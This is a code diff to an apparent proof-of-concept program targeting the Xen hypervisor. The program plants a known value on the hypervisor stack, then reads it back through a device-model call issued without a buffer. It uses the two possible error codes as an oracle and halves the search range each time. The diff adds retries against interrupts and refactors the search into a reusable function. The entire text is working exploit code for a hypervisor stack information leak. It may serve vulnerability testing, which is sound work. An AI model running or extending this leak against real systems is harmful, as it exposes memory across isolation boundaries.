@@ -32,6 +32,8 @@
 #include <xen/sys/privcmd.h>
 
 enum { closed = 0, open_hole = 1, cannot_tell = 2 };
+/* An interrupt between the two calls of a pair changes what the stack holds: look again. */
+enum { looks = 8 };
 
 /* All that the hypervisor reads or writes, in one locked page: dom0 must not move it meanwhile. */
 struct shared {
@@ -123,11 +125,13 @@ static long make_domain(const char** step) {
 
 /* Asks how many vCPUs there are, then asks again without a buffer to put the answer into. */
 static int no_buffer(domid_t dom) {
-    long honest, rc;
+    long honest = 0, rc = -EFAULT;
 
     name_buffer(&s->bufs[0], &s->honest, sizeof(s->honest));
-    s->honest = (struct xen_dm_op){.op = XEN_DMOP_nr_vcpus};
-    rc = one_fewer(dom, 1, &honest);
+    for (int i = 0; i < looks && !honest && rc != 0 && rc != -ENODATA; i++) {
+        s->honest = (struct xen_dm_op){.op = XEN_DMOP_nr_vcpus};
+        rc = one_fewer(dom, 1, &honest);
+    }
     if (honest) {
         printf("no buffer at all: cannot tell, an honest call fails: %s\n", word(honest));
         return cannot_tell;
@@ -158,31 +162,46 @@ static long one_of_two(domid_t dom, uint32_t extents, uint32_t left_behind, long
     return one_fewer(dom, 2, honest);
 }
 
-/* Learns a number on the hypervisor's stack from nothing but the two errors, halving each time. */
-static int leak(domid_t dom) {
-    const uint32_t secret = 0x5ec2e7;
+/*
+ * The largest number of extents that seems to fit into the missing buffer, by halving. Learnt from
+ * nothing but the two errors; another result ends the search, in *rc or *honest.
+ */
+static uint32_t search(domid_t dom, uint32_t left_behind, long* rc, long* honest) {
     uint32_t fits = 0, too_many = UINT32_MAX;
-    long honest = 0, rc = 0;
 
     while (too_many - fits > 1) {
         uint32_t middle = fits + (too_many - fits) / 2;
 
-        rc = one_of_two(dom, middle, secret, &honest);
-        if (honest || (rc != -EFAULT && rc != -EINVAL)) {
-            printf("one buffer of two: cannot tell: %s, %s\n", word(honest), word(rc));
-            return cannot_tell;
-        }
-        if (rc == -EFAULT)
+        *rc = one_of_two(dom, middle, left_behind, honest);
+        if (*honest || (*rc != -EFAULT && *rc != -EINVAL))
+            break;
+        if (*rc == -EFAULT)
             fits = middle;
         else
             too_many = middle;
     }
-    if (fits == 0) {
-        printf("one buffer of two: refused whatever is asked (%s)\n", word(rc));
-        return closed;
+    return fits;
+}
+
+/* Reads back, through the missing buffer, a number that the honest call left on the stack. */
+static int leak(domid_t dom) {
+    const uint32_t secret = 0x5ec2e7;
+    uint32_t found = 0;
+    long honest = 0, rc = 0;
+
+    for (int i = 0; i < looks && found != secret; i++) {
+        found = search(dom, secret, &rc, &honest);
+        if (honest || (rc != -EFAULT && rc != -EINVAL)) {
+            printf("one buffer of two: cannot tell: %s, %s\n", word(honest), word(rc));
+            return cannot_tell;
+        }
+        if (found == 0) {
+            printf("one buffer of two: refused whatever is asked (%s)\n", word(rc));
+            return closed;
+        }
     }
-    printf("one buffer of two: leaked 0x%" PRIx32 " from the hypervisor's stack%s\n", fits,
-           fits == secret ? ", what the call before left there" : "");
+    printf("one buffer of two: leaked 0x%" PRIx32 " from the hypervisor's stack%s\n", found,
+           found == secret ? ", what the call before left there" : "");
     return open_hole;
 }
 
